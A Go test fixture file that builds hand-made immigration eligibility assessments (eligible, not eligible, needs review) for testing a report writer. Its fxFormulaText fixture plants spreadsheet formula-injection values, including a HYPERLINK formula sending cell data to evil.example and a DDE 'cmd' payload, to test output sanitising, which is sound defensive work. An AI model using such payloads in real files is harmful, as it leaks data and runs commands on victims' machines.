package report

import (
	"github.com/cecbatch/cecbatch/assess"
)

// The fixtures below are assessments as the engine returns them, built by
// hand so that the data-half tests do not depend on the engine's numbers:
// what is tested here is how report writes an assessment, not what the
// assessment is.

var (
	fxClientCols = map[string]string{
		assess.FieldClientID: "A", assess.FieldFamilyName: "B", assess.FieldGivenNames: "C",
		assess.FieldAdmissibility: "J", assess.FieldStatusExpiry: "I",
	}
	fxJobCols = map[string]string{
		assess.FieldClientID: "A", assess.FieldEmployer: "B", assess.FieldTitle: "C",
		assess.FieldNOC: "D", assess.FieldTEER: "E", assess.FieldStart: "F", assess.FieldEnd: "G",
		assess.FieldHours: "H", assess.FieldAuthorization: "K",
	}
	fxTestCols = map[string]string{
		assess.FieldClientID: "A", assess.FieldTest: "B", assess.FieldTestDate: "C",
	}
)

func fxClientRef(row int) assess.Ref {
	return assess.Ref{Sheet: "Clients", Row: row, Cols: fxClientCols}
}

func fxJobRef(row int) assess.Ref {
	return assess.Ref{Sheet: "Employment", Row: row, Cols: fxJobCols}
}

func fxTestRef(row int) assess.Ref {
	return assess.Ref{Sheet: "Language Tests", Row: row, Cols: fxTestCols}
}

func fxScores(l, r, w, s float64) [4]assess.Score {
	return [4]assess.Score{{Value: l}, {Value: r}, {Value: w}, {Value: s}}
}

const fxRuleSet = "CEC rules in force 2024-01-30"

// fxRules is the rule set in force with its id and dates pinned, so that a
// later review date in assess does not change the golden files.
func fxRules() *assess.RuleSet {
	rs := *assess.Current()
	rs.ID, rs.EffectiveFrom, rs.Reviewed = "cec-2024-01-30", assess.MustDate("2024-01-30"), assess.MustDate("2026-12-01")
	return &rs
}

// fxEligible: a software developer with two years at 37.5 h/week and a
// valid IELTS at CLB 9.
func fxEligible() *assess.Assessment {
	d := assess.MustDate
	c := &assess.Client{
		Ref: fxClientRef(2), SourceFile: "intake-2026-11.xlsx",
		ID: "C-1001", FamilyName: "Bérubé", GivenNames: "Élodie", DateOfBirth: d("1994-03-02"),
		Province: "ON", InCanada: assess.Yes, Status: assess.StatusWorker, StatusExpiry: d("2027-08-31"),
		Jobs: []assess.Job{{
			Ref: fxJobRef(2), Employer: "Maple Software Inc.", Title: "Software developer",
			NOC: "21232", TEER: 1, Start: d("2024-09-01"), HoursPerWeek: 37.5, InCanada: true,
			Type: assess.Employee, Authorization: assess.AuthPGWP,
		}},
		Tests: []assess.Test{{
			Ref: fxTestRef(2), Name: "IELTS General", Kind: assess.IELTSGeneral, Date: d("2025-06-10"),
			Scores: fxScores(8, 7.5, 7, 7.5),
		}},
	}
	return &assess.Assessment{
		Client: c, AssessedOn: d("2026-11-20"), FromAsOf: true, WindowStart: d("2023-11-20"),
		Verdict: assess.Eligible, QualifyingHours: 3437.142857142857, HoursTEER01: 3437.142857142857,
		HoursReached: d("2025-08-31"), RequiredCLB: 7, LanguageCLB: 9,
		EligibleFrom: d("2026-11-20"), EligibleUntil: d("2027-06-09"),
		LapseCode: "L-VALID", Lapse: assess.Untranslated("The IELTS General Training of 2025-06-10 expires on 2027-06-09."),
		Requirements: []assess.Requirement{
			{Key: "work", Title: assess.Untranslated("Canadian work experience"), Outcome: assess.Met},
			{Key: "language", Title: assess.Untranslated("Language"), Outcome: assess.Met},
			{Key: "province", Title: assess.Untranslated("Intended province"), Outcome: assess.Met},
			{Key: "admissibility", Title: assess.Untranslated("Admissibility and status"), Outcome: assess.Met},
		},
		Jobs: []assess.JobResult{{Index: 0, TEER: 1, NOC: "21232", NOCTitle: "Software developers and programmers", Credited: 3437.142857142857, Uncapped: 4296.43, Status: assess.JobCounted}},
		Tests: []assess.TestResult{{Index: 0, Accepted: true, ValidUntil: d("2027-06-09"), Valid: true,
			CLB: [4]int{10, 9, 9, 9}, Level: 9, Best: true}},
		Findings: []assess.Finding{{Code: "W-CAP", Kind: assess.KindNote, Job: 0, Test: -1,
			Text: assess.Untranslated("Hours above 30 a week are not counted: 37.5 h/week at Maple Software Inc. credited as 30."),
			Cell: "Employment!H2", Citation: assess.Untranslated("IRPR 87.1(2)(a)")}},
		RuleSet: fxRuleSet, Rules: fxRules(),
	}
}

// fxNotEligible: ten months of a TEER 2 job that continues, a TEER 4 job and
// a self-employed contract that do not count, and a test that expires soon.
func fxNotEligible() *assess.Assessment {
	d := assess.MustDate
	c := &assess.Client{
		Ref: fxClientRef(3), SourceFile: "intake-2026-11.xlsx",
		ID: "C-1002", FamilyName: "Nguyễn", GivenNames: "Thị Minh", DateOfBirth: d("1998-12-24"),
		Province: "BC", InCanada: assess.Yes, Status: assess.StatusWorker,
		Jobs: []assess.Job{
			{Ref: fxJobRef(3), Employer: "Harbour Grill & Bar <Vancouver>", Title: "Cook", NOC: "63200", TEER: 3,
				Start: d("2026-01-15"), HoursPerWeek: 35, InCanada: true, Type: assess.Employee},
			{Ref: fxJobRef(4), Employer: "QuickMart", Title: "Cashier", NOC: "65100", TEER: 5,
				Start: d("2024-03-01"), End: d("2025-12-31"), HoursPerWeek: 25, InCanada: true,
				Type: assess.Employee, Authorization: assess.AuthOpenPermit},
			{Ref: fxJobRef(5), Employer: "Self", Title: "Delivery driver", NOC: "75201", TEER: 5,
				Start: d("2025-01-01"), End: d("2025-06-30"), HoursPerWeek: 20, InCanada: true,
				Type: assess.SelfEmployed, Authorization: assess.AuthOpenPermit},
		},
		Tests: []assess.Test{{
			Ref: fxTestRef(3), Name: "celpip general", Kind: assess.CELPIPGeneral, Date: d("2025-02-01"),
			Scores: [4]assess.Score{{Value: 6}, {Value: 5}, {Value: 5}, {Label: "M"}},
		}},
	}
	return &assess.Assessment{
		Client: c, AssessedOn: d("2026-11-20"), FromAsOf: true, WindowStart: d("2023-11-20"),
		Verdict: assess.NotEligible, QualifyingHours: 1317.857142857143, HoursTEER23: 1317.857142857143,
		RequiredCLB: 5, LanguageCLB: 0,
		EligibleFrom: 0,
		Requirements: []assess.Requirement{
			{Key: "work", Title: assess.Untranslated("Canadian work experience"), Outcome: assess.NotMet,
				Finding: assess.Untranslated("1,317.8 qualifying hours, short of 1,560.")},
			{Key: "language", Title: assess.Untranslated("Language"), Outcome: assess.NotMet},
			{Key: "province", Title: assess.Untranslated("Intended province"), Outcome: assess.Met},
			{Key: "admissibility", Title: assess.Untranslated("Admissibility and status"), Outcome: assess.Met},
		},
		Jobs: []assess.JobResult{
			{Index: 0, TEER: 3, Credited: 1317.857142857143, Uncapped: 1537.5, Status: assess.JobCounted},
			{Index: 1, TEER: 5, Status: assess.JobExcluded, Uncapped: 2460,
				Exclusions: []assess.Exclusion{{Code: "W-SKILL", From: d("2024-03-01"), To: d("2025-12-31"), Days: 671,
					Reason: assess.Untranslated("NOC 65100 is TEER 5; only TEER 0, 1, 2 and 3 count")}}},
			{Index: 2, TEER: 5, Status: assess.JobExcluded, Uncapped: 517.14,
				Exclusions: []assess.Exclusion{
					{Code: "W-SELF", From: d("2025-01-01"), To: d("2025-06-30"), Days: 181, Reason: assess.Untranslated("Self-employment does not count")},
					{Code: "W-SKILL", From: d("2025-01-01"), To: d("2025-06-30"), Days: 181, Reason: assess.Untranslated("NOC 75201 is TEER 5")}}},
		},
		Tests: []assess.TestResult{{Index: 0, Accepted: true, ValidUntil: d("2027-01-31"), Valid: true,
			CLB: [4]int{6, 5, 5, 0}, Level: 0, Best: true}},
		Findings: []assess.Finding{
			{Code: "W-HOURS", Kind: assess.KindFailure, Job: -1, Test: -1, Citation: assess.Untranslated("IRPR 87.1(2)(a)"),
				Text: assess.Untranslated("1,317.8 qualifying hours in the window; 1,560 are required.")},
			{Code: "L-THRESH", Kind: assess.KindFailure, Job: -1, Test: 0, Citation: assess.Untranslated("IRPR 87.1(2)(e)"),
				Text: assess.Untranslated("CELPIP-General of 2025-02-01 is below CLB 5 in speaking."), Cell: "Language Tests!A3"},
			{Code: "W-SKILL", Kind: assess.KindExclusion, Job: 1, Test: -1, Cell: "Employment!D4",
				Text: assess.Untranslated("QuickMart (NOC 65100, TEER 5) does not count.")},
			{Code: "W-SELF", Kind: assess.KindExclusion, Job: 2, Test: -1, Cell: "Employment!A5",
				Text: assess.Untranslated("Self-employment does not count: Self, 2025-01-01 to 2025-06-30.")},
			{Code: "W-AUTH", Kind: assess.KindNote, Job: 0, Test: -1, Cell: "Employment!K3",
				Text: assess.Untranslated("The work authorization for Harbour Grill & Bar <Vancouver> is blank; counted, to verify.")},
		},
		RuleSet: fxRuleSet, Rules: fxRules(),
	}
}

// fxNeedsReview: enough hours and CLB 8, but an end date before its start,
// an admissibility note and a status that expired; eligible later once the
// ongoing job adds hours (as if the unreadable row did not count).
func fxNeedsReview() *assess.Assessment {
	d := assess.MustDate
	c := &assess.Client{
		Ref: fxClientRef(4), SourceFile: "walk-ins.xlsx",
		ID: "C-1003", FamilyName: "Żółć", GivenNames: "Łukasz", DateOfBirth: d("1990-07-07"),
		ApplicationDate: d("2026-12-01"), Province: "AB", InCanada: assess.Yes,
		Status: assess.StatusWorker, StatusExpiry: d("2026-10-31"),
		Admissibility: "Impaired driving charge 2019 (Alberta),\nwithdrawn; client has the court letter.",
		Jobs: []assess.Job{
			{Ref: fxJobRef(6), Employer: "Prairie Logistics Ltd.", Title: "Dispatcher", NOC: "1525", TEER: -1,
				Start: d("2025-03-01"), HoursPerWeek: 40, InCanada: true, Type: assess.Employee, Authorization: assess.AuthEmployerSpecific},
			{Ref: fxJobRef(7), Employer: "Prairie Logistics Ltd.", Title: "Dispatcher", NOC: "14201", TEER: 4,
				Start: d("2024-05-01"), End: d("2023-05-01"), HoursPerWeek: 40, InCanada: true, Type: assess.Employee},
		},
		Tests: []assess.Test{
			{Ref: fxTestRef(4), Name: "IELTS Academic", Kind: assess.IELTSAcademic, Date: d("2025-09-01"),
				Scores: fxScores(8, 8, 7, 7)},
			{Ref: fxTestRef(5), Name: "TEF", Kind: assess.TEFCanada, Date: d("2026-01-10"),
				Scores: fxScores(316, 248, 371, 371)},
		},
		Problems: []assess.Problem{{Cell: "Employment!G7", Message: assess.Untranslated("End date 2023-05-01 is before the start date 2024-05-01.")}},
	}
	return &assess.Assessment{
		Client: c, AssessedOn: d("2026-12-01"), WindowStart: d("2023-12-01"),
		Verdict: assess.NeedsReview, QualifyingHours: 1097.142857142857, HoursTEER01: 1097.142857142857,
		RequiredCLB: 7, LanguageCLB: 8,
		EligibleFrom: d("2027-03-01"),
		Requirements: []assess.Requirement{
			{Key: "work", Title: assess.Untranslated("Canadian work experience"), Outcome: assess.NotMet},
			{Key: "language", Title: assess.Untranslated("Language"), Outcome: assess.Met},
			{Key: "province", Title: assess.Untranslated("Intended province"), Outcome: assess.Met},
			{Key: "admissibility", Title: assess.Untranslated("Admissibility and status"), Outcome: assess.Concern},
		},
		Jobs: []assess.JobResult{
			{Index: 0, TEER: 1, NOC2016: true, Credited: 1097.142857142857, Uncapped: 1462.86, Status: assess.JobCounted},
			{Index: 1, TEER: 4, Status: assess.JobUnreadable},
		},
		Tests: []assess.TestResult{
			{Index: 0, Accepted: false, Refused: assess.Untranslated("IELTS Academic is not accepted for Express Entry"),
				ValidUntil: d("2027-08-31"), Why: assess.Untranslated("not an accepted test"), CLB: [4]int{9, 9, 9, 9}, Level: 9},
			{Index: 1, Accepted: true, ValidUntil: d("2028-01-09"), Valid: true, CLB: [4]int{8, 8, 9, 9}, Level: 8, Best: true},
		},
		Findings: []assess.Finding{
			{Code: assess.CodeData, Kind: assess.KindData, Job: 1, Test: -1, Cell: "Employment!G7",
				Text: assess.Untranslated("End date 2023-05-01 is before the start date 2024-05-01.")},
			{Code: "W-HOURS", Kind: assess.KindFailure, Job: -1, Test: -1,
				Text: assess.Untranslated("1,097.1 qualifying hours in the window; 1,560 are required.")},
			{Code: "A-ADMIS", Kind: assess.KindConcern, Job: -1, Test: -1, Cell: "Clients!J4",
				Text: assess.Untranslated("Admissibility concern noted: the lawyer must assess it.")},
			{Code: "S-STATUS", Kind: assess.KindConcern, Job: -1, Test: -1, Cell: "Clients!I4",
				Text: assess.Untranslated("Status expired on 2026-10-31, before the application date.")},
			{Code: "W-NOC2016", Kind: assess.KindNote, Job: 0, Test: -1, Cell: "Employment!D6",
				Text: assess.Untranslated("NOC 2016 code 1525 mapped to TEER 1; give the NOC 2021 code.")},
		},
		RuleSet: fxRuleSet, Rules: fxRules(),
	}
}

// fxFormulaText: every text the client typed starts like a formula.
func fxFormulaText() *assess.Assessment {
	const bad = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
	a := fxNotEligible()
	c := a.Client
	c.ID = "=1+1"
	c.FamilyName = "+SUM(A1:A9)"
	c.GivenNames = "-2+3"
	c.SourceFile = "@import.xlsx"
	c.Jobs[0].Employer = bad
	c.Jobs[0].Title = "\t=cmd|' /C calc'!A0"
	c.Jobs[0].NOC = "=63200"
	c.Jobs[1].Employer = "@SUM(1)"
	c.Jobs[1].Title = "\r=1"
	// Characters XML 1.0 cannot hold, and bytes that are not UTF-8.
	c.Jobs[2].Employer = "Bell\x07 Nul\x00 Bad\xff\xfe Esc\x1b"
	c.Tests[0].Name = "=IELTS"
	c.Tests[0].Scores[3] = assess.Score{Label: "=M"}
	a.Jobs[1].Exclusions[0].Reason = assess.Untranslated("=BAD()")
	a.Tests[0].Why = assess.Untranslated("+why")
	a.Findings[0].Text = assess.Untranslated("=finding()")
	return a
}

func fxAll() []*assess.Assessment {
	return []*assess.Assessment{fxEligible(), fxNotEligible(), fxNeedsReview()}
}
